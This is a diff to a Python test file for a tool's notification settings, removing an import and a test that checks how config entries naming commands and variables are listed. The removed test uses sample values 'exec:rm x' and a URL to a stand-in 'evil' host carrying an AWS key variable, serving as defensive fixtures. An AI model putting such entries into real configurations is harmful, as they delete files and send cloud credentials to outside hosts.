@@ -5,7 +5,6 @@ import json
 import pytest
 
 from tuner.errors import SpecError, UsageError
-from tuner.spec.code import code_of
 from tuner.spec.experiment import ExperimentSpec, build_spec
 from tuner.spec.notify import filled, hidden, is_apprise, is_hidden, is_web
 
@@ -73,13 +72,3 @@ def test_filled_inserts_environment_variables():
         filled("https://host/${A}", {"A": ""})
     with pytest.raises(UsageError, match=r"^notify: \$?.*no URL once its variables are filled"):
         filled("https://${A}", {"A": "/"})
-
-
-def test_code_of_lists_commands_and_variables():
-    named = code_of({"notify": ["exec:rm x", "https://evil/${AWS_KEY}", SECRET, 3]})
-    assert [(code.key, code.path) for code in named] == [
-        ("notify", "exec:rm x"),
-        ("notify", "https://evil/${AWS_KEY}"),
-    ]
-    assert named[0].description == "notify exec:rm x"
-    assert [code.path for code in code_of({"notify": "exec:x"})] == ["exec:x"]
